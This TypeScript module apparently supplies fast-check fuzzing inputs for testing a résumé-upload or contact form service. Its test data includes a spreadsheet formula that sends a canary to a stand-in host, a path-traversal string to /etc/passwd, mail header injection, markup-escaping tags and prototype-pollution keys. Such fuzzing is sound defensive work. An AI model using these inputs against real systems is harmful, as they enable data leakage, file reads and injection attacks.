import * as fc from 'fast-check';

/** Returns a fast-check arbitrary that selects among several arbitraries by their weights. */
export const chooseWeighted = <T>(...choices: readonly (readonly [weight: number, arbitrary: fc.Arbitrary<T>])[]) =>
  fc.oneof(...choices.map(([weight, arbitrary]) => ({ weight, arbitrary })));

/** A word in many values of the fuzzer. This word stands for personal data, which must never appear in a log line. */
export const CANARY = 'Zebedee';
/** Markup in values of the fuzzer. This markup must never appear unescaped in a response or a mail. */
export const CANARY_TAG = '<x-zebedee>';

const HOSTILE_TEXTS = [
  '',
  ' ',
  '\r\n\r\n',
  '\n\n\nafter',
  '\0',
  '\ud800',
  '\u202eevil\u202c',
  '\ufeff',
  '\u2028',
  `=IMPORTXML("http://x.example/${CANARY}")`,
  '\uff1d1+1',
  '+919876543210',
  `${CANARY_TAG}`,
  `">${CANARY_TAG}<p "`,
  `'${CANARY_TAG}'`,
  `</textarea>${CANARY_TAG}`,
  `</script>${CANARY_TAG}`,
  `<!--${CANARY_TAG}-->`,
  `${CANARY}\r\nBcc: victim@example.com`,
  '{{title}}',
  '{{body}}',
  '{name}',
  "$&$`$'$1",
  '%00%ff%c0%af',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  '\u0660\u0665\u0660',
  'a'.repeat(600),
  `${CANARY} `.repeat(2500),
  'é'.repeat(9000),
  '👩🏽‍🚀'.repeat(200),
];

/** Texts for a field, most of them hostile. */
export const hostileTextArbitrary: fc.Arbitrary<string> = chooseWeighted(
  [3, fc.constantFrom(...HOSTILE_TEXTS)],
  [1, fc.string({ unit: 'binary', maxLength: 60 }).map((text) => CANARY + text)],
  [1, fc.string({ unit: 'grapheme', maxLength: 200 })],
);

/** Valid and hostile names of fields and parameters, most of them short. */
export const hostileNameArbitrary: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    'resume',
    'name',
    'email',
    'message',
    'website',
    'key',
    'age',
    'token',
    '__proto__',
    'constructor',
    'plan',
    'a"b',
    'a\r\nb',
    '\0',
    '../x',
    'é',
    'n'.repeat(150),
    'resume[]',
    'RESUME',
    CANARY,
    CANARY_TAG,
  ),
  fc.string({ maxLength: 12 }),
);

/** File names with valid, wrong and hostile characters and extensions. */
export const fileNameArbitrary: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('cv.pdf', 'cv.docx', 'cv.doc', `${CANARY}.pdf`, 'CV.PDF', 'cv.pdf.exe', '.pdf', 'pdf', 'a/b\\c.pdf'),
  fc.constantFrom('', '\0.pdf', `${CANARY_TAG}.pdf`, 'é\u202e.pdf', `${'n'.repeat(400)}.pdf`, 'a"b.pdf', '=1+1.pdf'),
  fc.string({ maxLength: 20 }).map((name) => `${name}.pdf`),
);

const PDF = '%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF';
const ZIP_END = 'PK\x05\x06' + '\0'.repeat(18);

/**
 * The bytes of a file as Latin-1 text: a résumé, a file with the first bytes of a résumé, random bytes, or a large
 * file.
 */
export const fileBytesArbitrary: fc.Arbitrary<string> = chooseWeighted(
  [4, fc.constant(PDF)],
  [
    4,
    fc.constantFrom('', '%PDF', 'PK\x03\x04', `PK\x03\x04${ZIP_END}`, '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', PDF.slice(1)),
  ],
  [2, fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes).toString('latin1'))],
  [1, fc.constantFrom(100_000, 1_000_000).map((size) => PDF.padEnd(size))],
);

const PATTERN_HEAD = /^%PDF-1\.7 (\d+)\n/;
/** The files of {@link createPatternedFile}, by size. */
const patternedFilesBySize = new Map<number, Buffer>();

/** Returns a file of `size` bytes that begins like a PDF. Each later byte is a function of its position. */
export function createPatternedFile(size: number): Buffer {
  const cachedFile = patternedFilesBySize.get(size);
  if (cachedFile) return cachedFile;
  const bytes = Buffer.alloc(size);
  for (let index = 0; index < size; index += 1) bytes[index] = 33 + ((index * 7 + (index >> 8)) % 90);
  bytes.write(`%PDF-1.7 ${size}\n`);
  patternedFilesBySize.set(size, bytes);
  return bytes;
}

/**
 * Returns false for a damaged file of {@link createPatternedFile}: its first line names a size, but the file differs
 * from the original file of this size. Returns true for every other file.
 */
export function isFileIntact(bytes: Buffer): boolean {
  const size = PATTERN_HEAD.exec(bytes.toString('latin1', 0, 40))?.[1];
  return size === undefined || bytes.equals(createPatternedFile(Number(size)));
}

/** Returns a fast-check arbitrary that divides a text into at most six writes, at random positions. */
export const createWritesArbitrary = (text: string): fc.Arbitrary<string[]> =>
  fc.array(fc.nat(text.length), { maxLength: 5 }).map((cuts) => {
    const boundaries = [0, ...cuts.toSorted((a, b) => a - b), text.length];
    return boundaries.slice(1).map((end, index) => text.slice(boundaries[index], end));
  });

/** Returns the UTF-8 bytes of a text as Latin-1 text. */
export const toLatin1 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');
